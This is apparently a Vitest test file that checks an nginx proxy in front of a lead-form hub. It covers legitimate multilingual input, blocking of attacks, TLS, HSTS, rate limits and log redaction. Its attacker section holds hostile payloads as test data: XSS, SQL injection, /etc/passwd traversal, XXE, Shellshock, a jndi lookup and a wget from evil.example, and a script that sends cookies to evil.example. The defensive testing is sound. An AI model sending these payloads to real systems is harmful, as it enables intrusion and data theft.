import { request } from 'node:http';
import { connect } from 'node:tls';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { makeEvent } from '../../test/make-events.ts';
import { openTestHub, type TestHub } from '../../test/open-test-hub.ts';
import { openTestProxy, serverName, type ProxyInit, type TestProxy } from '../../test/open-test-proxy.ts';
import { emailField, newsField, publishForm } from '../../test/publish-form.ts';
import { siteForTests } from '../../test/site-for-tests.ts';
import { createApiKey } from '../../src/sites/create-api-key.ts';

let hub: TestHub;
let proxy: TestProxy;
let site: string;
let campaign: string;
let key: string;
const origin = 'https://tea.example';
const message = { kind: 'text', name: 'message', label: 'Message', required: false };
const name = { kind: 'text', name: 'name', label: 'Name', required: false };
beforeAll(async () => {
  hub = await openTestHub({ nowMs: Date.now(), env: { trustedProxies: 1 } });
  const url = await hub.serve();
  proxy = await openTestProxy(Number(new URL(url).port));
  site = (await siteForTests(hub.parts)).id;
  campaign = await publishForm(hub.parts, site, { fields: [emailField, name, message, newsField] });
  const made = await createApiKey(hub.parts, site, 'Sync');
  if (!made.ok) throw new Error(JSON.stringify(made));
  key = made.secret;
});
afterAll(async () => {
  await proxy?.close();
  await hub?.close();
});

const json = { 'Content-Type': 'application/json' };
const form = { 'Content-Type': 'application/x-www-form-urlencoded', Origin: `https://${serverName}` };

describe('what people and shops really send passes', () => {
  test.each([
    [
      'en',
      "Sinead O’Connor-O'Brien",
      "I'd like to select a tea from the union of green & black; drop me a line or call -- thanks! <3",
    ],
    [
      'de',
      'Jürgen Müßiggang',
      'Größe 38/40? Preis < 50 € und Lieferung "frei Haus" bitte; Grüße aus Köln (Ecke Straße 12/3)',
    ],
    ['fr', "Aurélie d'Ornellas", "J'aimerais l'offre « -10 % » : c'est bien l'été ? Merci d'avance & à bientôt…"],
    ['es', 'Íñigo Peña', '¿Cuánto cuesta? ¡Quiero 2 o 3! Mi dirección: c/ Señor 1, 2º D; tel. +34 600 000 000'],
    ['pl', 'Łukasz Żółć', 'Proszę o ofertę: ilość = 10, cena <= 20 zł, dziękuję!'],
    ['ja', '山田 太郎', '緑茶を10個注文したいのですが、送料はいくらですか？（東京都）'],
    ['ar', 'محمد العربي', 'مرحبا، كم سعر الشحن؟ شكراً جزيلاً!'],
    [
      'en',
      'Null',
      'My order or my cup is not here. 1 = 1, as they say; where id = 12? Please update the set and delete the old one from my account',
    ],
    [
      'en',
      'Robert "Bob" Tables',
      'See https://tea.example/shop?size=2&colour=green#top — the link <a> does not work for me: {{ first name }} ($ 5 or £ 4)',
    ],
  ])('a form in %s from %s', async (locale, name, message) => {
    const body = { site, campaign, form: 'form', fields: { email: "o'brien+tea@example.com", name, message }, consents: {}, honeypot: '', locale, page: `${origin}/de/tee?utm_source=news&q=grüner%20tee` }; // prettier-ignore
    const sent = await proxy.ask('/v1/leads', {
      method: 'POST',
      headers: { ...json, Origin: origin, 'Idempotency-Key': crypto.randomUUID() },
      body: JSON.stringify(body),
    });
    expect([sent.status, JSON.parse(sent.text)]).toEqual([200, expect.objectContaining({ ok: true })]);
    expect(sent.headers['access-control-allow-origin']).toBe(origin);
  });

  test.each([
    ['rectify', "Mein Name ist „Jürgen O'Hara“, nicht <Jürgen Ohara>; bitte ändern & löschen!"],
    ['access', ''],
    ['erase', "L'adresse n'est plus à jour : supprimez-la (c'est urgent) -- merci"],
  ])('a request about one’s data: to %s', async (right, wish) => {
    const body = new URLSearchParams({ right, email: `${right}@example.com`, wish }).toString();
    const sent = await proxy.ask(`/v1/privacy/${site}`, { method: 'POST', headers: form, body });
    expect(sent.status).toBe(200);
  });

  test('a beacon with what pages are called and searched for, and one without anything a browser may leave out', async () => {
    const at = new Date(hub.clock.nowMs()).toISOString();
    const titles = ["SELECT * FROM our teas; -- 'best' of", '<script>alert(1)</script> explained', 'Ängste & Öle: 50 % auf "alles"', '../../etc/passwd']; // prettier-ignore
    const events = titles.map((title) =>
      makeEvent({ name: 'page-viewed', site, at, data: { path: `/search?q=${encodeURIComponent(title)}`, title } }),
    );
    const send = (headers: ProxyInit['headers'] = {}) =>
      proxy.ask('/v1/collect', {
        method: 'POST',
        headers: { 'Content-Type': 'text/plain;charset=UTF-8', Origin: origin, ...headers },
        body: JSON.stringify({ events }),
      });
    expect(JSON.parse((await send()).text)).toMatchObject({ accepted: titles.length });
    expect((await send({ 'User-Agent': '', Accept: '' })).status).toBe(200);
  });

  test('a campaign with HTML in it is made, changed, published and taken away through the REST API', async () => {
    const markup = [
      { tag: 'h2', children: ['Größe & Preis <script>alert(1)</script>'] },
      { tag: 'p', children: ["It's \"50 %\" off; select yours from the table -- or 1=1", { tag: 'a', attributes: { href: 'https://tea.example/?q=%3Cb%3E' }, children: ['<img src=x onerror=alert(1)>'] }] },
    ]; // prettier-ignore
    const document = {
      name: 'Ünïcode’s "best" <b>',
      format: { kind: 'popup' },
      content: { label: 'Hi', steps: [{ id: 'start', blocks: [{ kind: 'html', id: 'html', markup }] }] },
      audience: { all: [{ attribute: 'page.path', is: 'regex', value: '^/(a|b)/.*[.]php$' }] },
    };
    const call = (method: string, path: string, body?: object) =>
      proxy.ask(path, {
        method,
        headers: { Authorization: `Bearer ${key}`, ...(body && json) },
        ...(body && { body: JSON.stringify(body) }),
      });
    const made = await call('POST', '/v1/campaigns', document);
    expect([made.status, made.text]).toEqual([201, expect.stringContaining('"id"')]);
    const { id, revision } = (JSON.parse(made.text) as { campaign: { id: string; revision: number } }).campaign;
    const changed = await call('PUT', `/v1/campaigns/${id}`, {
      revision,
      document: { ...document, id, name: "Tea's" },
    });
    expect([changed.status, changed.text]).toEqual([200, expect.any(String)]);
    expect((await call('POST', `/v1/campaigns/${id}/publish`)).status).toBe(200);
    expect((await call('DELETE', `/v1/campaigns/${id}`)).status).toBe(200);
    const large = { name: 'x'.repeat(3_000_000) };
    expect((await call('POST', '/v1/campaigns', large)).status).toBe(422);
  });

  test('a preflight, links of mails, the document of the API and the state of the hub', async () => {
    const preflight = await proxy.ask('/v1/leads', {
      method: 'OPTIONS',
      headers: { Origin: origin, 'Access-Control-Request-Method': 'POST', 'Access-Control-Request-Headers': 'content-type,idempotency-key' }, // prettier-ignore
    });
    expect([preflight.status, preflight.headers['access-control-allow-origin']]).toEqual([204, origin]);
    expect((await proxy.ask(`/v1/leads/ticket?site=${site}`, { headers: { Origin: origin } })).status).toBe(200);
    expect((await proxy.ask('/v1/openapi.json')).status).toBe(200);
    expect((await proxy.ask(`/v1/privacy/${site}?right=erase&lang=fr`)).status).toBe(200);
    // A token of this shape that opens nothing is the hub's to refuse.
    expect(
      (await proxy.ask(`/v1/leads/confirm?token=${site}.${'--or-1_1--union-select-'.padEnd(43, 'x')}`)).status,
    ).toBe(404);
  });
});

describe('what attackers send', () => {
  test.each<[string, string, ProxyInit?]>([
    ['a script in an address', '/v1/health?x=<script>alert(1)</script>'],
    ['a script, encoded twice', '/v1/health?x=%253Cscript%253Ealert(1)%253C%252Fscript%253E'],
    ['a handler in an address', '/v1/health?x=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E'],
    ['SQL in an address', "/v1/health?id=1'%20OR%20'1'='1'%20--%20"],
    ['a union of tables', '/v1/health?id=1%20UNION%20SELECT%20password%20FROM%20users'],
    ['a sleeping query', '/v1/health?id=1;SELECT%20pg_sleep(10)--'],
    ['a way out of the folder', '/v1/health?file=../../../../etc/passwd'],
    ['the same, encoded', '/v1/health?file=..%2f..%2f..%2fetc%2fpasswd'],
    ['a command', '/v1/health?x=;cat%20/etc/passwd'],
    ['a look-up', '/v1/health?x=$%7Bjndi:ldap://evil.example/a%7D'],
    ['a command in backticks', '/v1/health?x=%60wget%20http://evil.example/x.sh%60'],
    ['PHP', '/v1/health?x=%3C%3Fphp%20system(%27id%27)%3B%3F%3E'],
    ['a file that should not lie there', '/.env'],
    ['a repository', '/.git/config'],
    [
      'a script in the page somebody came from',
      '/v1/health',
      { headers: { Referer: 'https://tea.example/?x=<script>alert(1)</script>' } },
    ],
    ['a function in a header', '/v1/health', { headers: { 'X-Probe': '() { :; }; /bin/bash -c "id"' } }],
    ['a scanner that says so', '/v1/health', { headers: { 'User-Agent': 'sqlmap/1.7#stable (https://sqlmap.org)' } }],
    ['another scanner', '/v1/health', { headers: { 'User-Agent': 'Nikto/2.5.0' } }],
    ['a header that splits', '/v1/health?x=a%0d%0aSet-Cookie:%20a=b'],
    ['a method nobody uses', '/v1/health', { method: 'TRACK' }],
    [
      'a script in a lead',
      '/v1/leads',
      {
        method: 'POST',
        headers: { ...json, Origin: origin },
        body: JSON.stringify({
          fields: { name: '<script>document.location="https://evil.example/"+document.cookie</script>' },
        }),
      },
    ],
    [
      'SQL in a lead',
      '/v1/leads',
      {
        method: 'POST',
        headers: { ...json, Origin: origin },
        body: JSON.stringify({ fields: { name: "x' UNION ALL SELECT null,password FROM users-- -" } }),
      },
    ],
    [
      'a script in a form',
      '/v1/privacy/any',
      { method: 'POST', headers: form, body: 'right=access&wish=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E' },
    ],
    [
      'XML with an entity',
      '/v1/privacy/any',
      {
        method: 'POST',
        headers: { 'Content-Type': 'text/xml' },
        body: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
      },
    ],
  ])('%s never reaches the hub', async (_, path, init) => {
    // What is told apart: nginx's own page, not an answer of the hub.
    const { status, text } = await proxy.ask(path, init);
    expect([status, text.includes('<center>nginx</center>')]).toEqual([expect.toBeOneOf([403, 405]), true]);
  });
});

describe('at the door', () => {
  test.each([
    ['/v1/collect', 100],
    ['/v1/leads', 128],
    [`/v1/privacy/x`, 64],
    ['/webhooks', 4_096],
  ])('%s takes %s kB and no more', async (path, kilobytes) => {
    const send = (bytes: number) =>
      proxy.ask(path, { method: 'POST', headers: { 'Content-Type': 'text/plain' }, body: 'x'.repeat(bytes) });
    expect((await send(kilobytes * 1_024 + 1)).status).toBe(413);
    expect((await send(1_000)).status).not.toBe(413);
  });

  test.each([
    ['TLSv1.2', true],
    ['TLSv1.3', true],
    ['TLSv1.1', false],
    ['TLSv1', false],
  ] as const)('%s is spoken: %s', async (version, spoken) => {
    const outcome = await new Promise<string>((resolve) => {
      const socket = connect({
        host: '127.0.0.1', port: proxy.port, servername: serverName, ca: proxy.certificate,
        minVersion: version, maxVersion: version, ciphers: 'DEFAULT@SECLEVEL=0',
      }); // prettier-ignore
      socket.on('secureConnect', () => resolve(socket.getProtocol() ?? '')).on('error', () => resolve('refused'));
      socket.on('secureConnect', () => socket.end());
    });
    expect(outcome).toBe(spoken ? version : 'refused');
  });

  test('browsers are told once to keep to https, and http leads there', async () => {
    const { rawHeaders, status, location } = await new Promise<{ rawHeaders: string[]; status?: number | undefined; location?: string | undefined }>((resolve, reject) => {
      request({ host: '127.0.0.1', port: proxy.plainPort, path: '/v1/health?a=b', headers: { Host: serverName } }, (response) => {
        response.resume();
        resolve({ rawHeaders: response.rawHeaders, status: response.statusCode, location: response.headers.location });
      }).on('error', reject).end();
    }); // prettier-ignore
    expect([status, location]).toEqual([301, `https://${serverName}/v1/health?a=b`]);
    expect(rawHeaders.join()).not.toMatch(/nginx\/\d/);
    const { headers } = await proxy.ask('/v1/health');
    expect(headers['strict-transport-security']).toBe('max-age=31536000; includeSubDomains');
    expect(headers.server).toBe('nginx');
  });

  test('a name that is not the hub’s is answered by nobody', async () => {
    const Host = 'shop.example';
    const plainly = new Promise((resolve, reject) => {
      request({ host: '127.0.0.1', port: proxy.plainPort, path: '/', headers: { Host } }, resolve).on('error', reject).end();
    }); // prettier-ignore
    await expect(plainly).rejects.toThrow();
    const greeted = new Promise((resolve, reject) => {
      const given = { host: '127.0.0.1', port: proxy.port, servername: Host, rejectUnauthorized: false };
      const socket = connect(given, () => resolve(socket.end())).on('error', reject);
    });
    await expect(greeted).rejects.toThrow();
    // The hub's name in the greeting, and another in the request.
    await expect(proxy.ask('/v1/health', { headers: { Host } })).rejects.toThrow();
    expect((await proxy.ask('/v1/health')).status).toBe(200);
  });

  test('the address of a shop, by which an answer comes, is told nothing about https', async () => {
    const { headers } = await proxy.ask('/proxy/leads');
    expect(headers['strict-transport-security']).toBeUndefined();
    expect(headers.server).toBe('nginx');
  });

  test('an address that a visitor claims is not believed', async () => {
    const guess = (claimed: string) =>
      proxy.ask('/v1/campaigns', { headers: { Authorization: `Bearer bk_${claimed}`, 'X-Forwarded-For': claimed } });
    const statuses: number[] = [];
    for (let each = 1; each <= 12; each++) statuses.push((await guess(`203.0.113.${each}`)).status);
    expect(statuses).toEqual([...Array<number>(10).fill(401), 429, 429]);
  });

  test('more than fifty requests a second from one place are told to slow down', async () => {
    const asked = await Promise.all(Array.from({ length: 400 }, () => proxy.ask('/v1/health').catch(() => undefined)));
    const statuses = new Set(asked.map((answer) => answer?.status));
    expect(statuses.has(429)).toBe(true);
    expect(statuses.has(200)).toBe(true);
  });

  // The last: it reads what all of the above has left.
  test('the logs name no address, no token and nothing that anybody wrote', async () => {
    const logs = proxy.readLogs();
    expect(logs).toContain(' GET /v1/health 200 ');
    for (const secret of ['token=', 'Müßiggang', 'union-select', "o'brien", 'bk_']) expect(logs).not.toContain(secret);
    const access = logs.split('\n').filter((line) => / \/v1\/\S* \d{3} \d+ /.test(line));
    expect(access.filter((line) => /\d+\.\d+\.\d+\.\d+/.test(line))).toEqual([]);
  });
});
